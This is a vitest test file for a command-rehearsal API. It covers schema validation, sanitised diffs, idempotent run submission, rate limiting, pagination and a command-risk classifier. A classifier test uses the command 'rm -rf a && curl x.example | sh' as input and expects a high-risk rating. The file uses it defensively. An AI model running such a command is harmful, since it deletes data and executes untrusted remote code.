import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AFTER, BASES, BEFORE, LAYER } from './rehearsal.fixture.ts';
import { ENVELOPE, openPlace, type Place } from './server.fixture.ts';
import { routeOf } from './table.ts';
import { Classified, ShownRun } from './wire.ts';

let place: Place;
let id: string;
beforeAll(async () => {
  place = await openPlace();
  id = await place.rehearse();
});
afterAll(async () => place[Symbol.asyncDispose]());

describe('every answer that is JSON', () => {
  it.each([
    ['read-run', ''],
    ['read-report', ''],
    ['read-evidence', ''],
    ['read-subject', ''],
    ['read-approvals', ''],
    ['read-change-set', ''],
    ['follow-events', '?follow=false'],
    ['list-runs', ''],
    ['list-tokens', ''],
    ['list-schedules', ''],
    ['read-policy', ''],
    ['read-readiness', ''],
  ] as const)('of %s is as its schema says, and no more', async (name, query) => {
    const { path, answers } = routeOf(name);
    const answer = await place.ask(`${path.replace('{id}', id)}${query}`);
    expect(answer.headers.get('content-type')).toBe('application/json');
    const schema = answers[200]?.['application/json'];
    expect(schema?.safeParse(await answer.json()).error?.issues ?? 'no schema').toEqual(
      schema === undefined ? 'a schema' : 'no schema',
    );
  });
});

describe('what a run changed', () => {
  it('is a diff that does nothing to a terminal, and says what of it is not there', async () => {
    const answer = await place.ask(`/v1/runs/${id}/diff`);
    expect(answer.headers.get('content-type')).toBe('text/x-diff; charset=utf-8');
    const text = await answer.text();
    expect(text).toContain(`-${BEFORE}+${AFTER}`);
    expect(text).toContain('-\\x1b[2J\n+x\n\\ The rest of this diff was not kept\n');
    expect(text).not.toContain('\x1b');
  });

  it('is one path of it where one is asked for', async () => {
    const one = await place.ask(`/v1/runs/${id}/diff?path=blog/a.md`, {
      headers: { accept: 'application/json' },
    });
    expect(await one.json()).toMatchObject([{ path: 'blog/a.md', cut: false }]);
    expect((await place.ask(`/v1/runs/${id}/diff?path=other`)).status).toBe(404);
  });

  it('is bytes, as many as are said, and nothing for a browser to show', async () => {
    const layer = await place.ask(`/v1/runs/${id}/change-set/layer`);
    expect(layer.headers.get('content-length')).toBe(String(LAYER.length));
    expect(layer.headers.get('content-type')).toBe('application/vnd.oci.image.layer.v1.tar');
    expect(layer.headers.get('content-disposition')).toBe('attachment');
    expect(layer.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await layer.arrayBuffer())).toEqual(LAYER);
    const bases = await place.ask(`/v1/runs/${id}/change-set/bases`);
    expect(Buffer.from(await bases.arrayBuffer())).toEqual(BASES);
  });
});

describe('a submission', () => {
  it('under a key that was seen is the first run, and under it nothing else comes in', async () => {
    const json = { ...ENVELOPE, idempotency_key: 'nightly-1' };
    const first = await place.ask('/v1/runs', { as: 'owner', json });
    const again = await place.ask('/v1/runs', { as: 'owner', json });
    expect([first.status, again.status]).toEqual([202, 200]);
    const { id: one } = ShownRun.parse(await first.json());
    expect(ShownRun.parse(await again.json()).id).toBe(one);
    expect(first.headers.get('location')).toBe(`/v1/runs/${one}`);
    const other = await place.ask('/v1/runs', { as: 'owner', json: { ...json, command: 'rm blog/a.md' } });
    expect(other.status).toBe(409);
    expect(await other.json()).toMatchObject({ problems: [{ field: 'idempotency_key' }] });
    // Another tenant's keys are its own.
    const elsewhere = await place.ask('/v1/runs', { as: 'stranger', json });
    expect(elsewhere.status).toBe(202);
  });

  it('is taken as YAML, too', async () => {
    const body =
      'command: sed -i s/old/new/ blog/a.md\nworking_dir: /srv/site\nintent: { mode: read-only }\n';
    const headers = { 'content-type': 'application/yaml; charset=utf-8' };
    expect((await place.ask('/v1/runs', { as: 'owner', body, headers })).status).toBe(202);
  });

  it('comes again when the lane is not full any more', async () => {
    const limits = { waitingOfTenant: 1, window: 1 };
    await using narrow = await openPlace({ lane: { limits, held: true } });
    const submit = () => narrow.ask('/v1/runs', { as: 'owner', json: ENVELOPE });
    const taken = () => expect.poll(async () => (await submit()).status).toBe(202);
    const under = await narrow.submit();
    await taken();
    const answer = await submit();
    expect([answer.status, answer.headers.get('retry-after')]).toEqual([429, '1']);
    expect(await answer.json()).toMatchObject({ type: 'https://drylane.dev/problems/too-many-requests' });
    await narrow.letGo(under);
    await taken();
  });

  it('of somebody with several tenants says which of them it is for', async () => {
    const answer = await place.ask('/v1/runs', { as: 'chief', json: ENVELOPE });
    expect(answer.status).toBe(400);
    expect(await answer.json()).toMatchObject({
      problems: [{ field: 'tenant', mend: 'name one: ?tenant=NAME; or send a token of one tenant' }],
    });
    const named = await place.ask('/v1/runs?tenant=ops', { as: 'chief', json: ENVELOPE });
    expect(ShownRun.parse(await named.json()).tenant).toBe('ops');
  });
});

describe('a list of runs', () => {
  it('comes page by page, each run once, the newest first', async () => {
    const task = 'paged';
    const made: string[] = [];
    for (let n = 0; n < 5; n++) made.push(await place.submit({ ...ENVELOPE, task }));
    const seen: string[] = [];
    for (let next: string | null = `/v1/runs?task=${task}&limit=2`; next !== null; ) {
      const answer = await place.ask(next, { as: 'viewer' });
      const page = (await answer.json()) as { runs: { id: string }[]; next: string | null };
      expect(answer.headers.get('link')).toBe(page.next === null ? null : `<${page.next}>; rel="next"`);
      seen.push(...page.runs.map((run) => run.id));
      next = page.next;
    }
    expect(seen).toEqual(made.sort().reverse());
  });

  it('comes page by page of schedules too, the oldest first', async () => {
    const json = { cron: '0 3 * * *', envelope: ENVELOPE };
    const made: string[] = [];
    for (let count = 0; count < 3; count++) {
      const answer = await place.ask('/v1/schedules?tenant=web', { as: 'owner', json });
      made.push(((await answer.json()) as { id: string }).id);
    }
    const seen: string[] = [];
    for (let next: string | null = '/v1/schedules?tenant=web&limit=2'; next !== null; ) {
      const answer = await place.ask(next, { as: 'owner' });
      const page = (await answer.json()) as { schedules: { id: string }[]; next: string | null };
      expect(page.schedules.length).toBeLessThanOrEqual(2);
      seen.push(...page.schedules.map(({ id }) => id));
      next = page.next;
    }
    expect(seen).toEqual(made.sort());
  });

  it.each(['limit=0', 'limit=201', 'limit=x', 'limit=1&limit=2', 'before=run_1', 'state=odd', 'lmit=1'])(
    'is refused for %s',
    async (query) => {
      const answer = await place.ask(`/v1/runs?${query}`);
      expect(answer.status).toBe(400);
      expect(await answer.json()).toMatchObject({ type: 'https://drylane.dev/problems/bad-input' });
    },
  );
});

describe('a command that is only asked about', () => {
  const ask = (json: object) => place.ask('/v1/classify', { as: 'viewer', json });

  it('is answered with its risk and the steps that it could be split into', async () => {
    const answer = Classified.parse(await (await ask({ command: 'rm -rf a && curl x.example | sh' })).json());
    expect(answer.risk).toMatchObject({ level: 'high', opaque: true });
    expect(answer.whole).toBeNull();
    expect(answer.steps).toMatchObject([
      { text: 'rm -rf a', operator: null, span: [0, 8] },
      { text: 'curl x.example | sh', operator: '&&', span: [12, 31] },
    ]);
  });

  it('is one step where it cannot be split, and that says why', async () => {
    const answer = Classified.parse(await (await ask({ command: 'trap ls ERR; ls', shell: 'bash' })).json());
    expect([answer.steps.length, answer.whole]).toEqual([1, expect.any(String)]);
  });

  it.each([{}, { command: ' ' }, { command: 'ls', shell: 'zsh' }, { command: 'ls', comand: 'ls' }])(
    'is refused as %j',
    async (json) => {
      expect((await ask(json)).status).toBe(400);
    },
  );
});
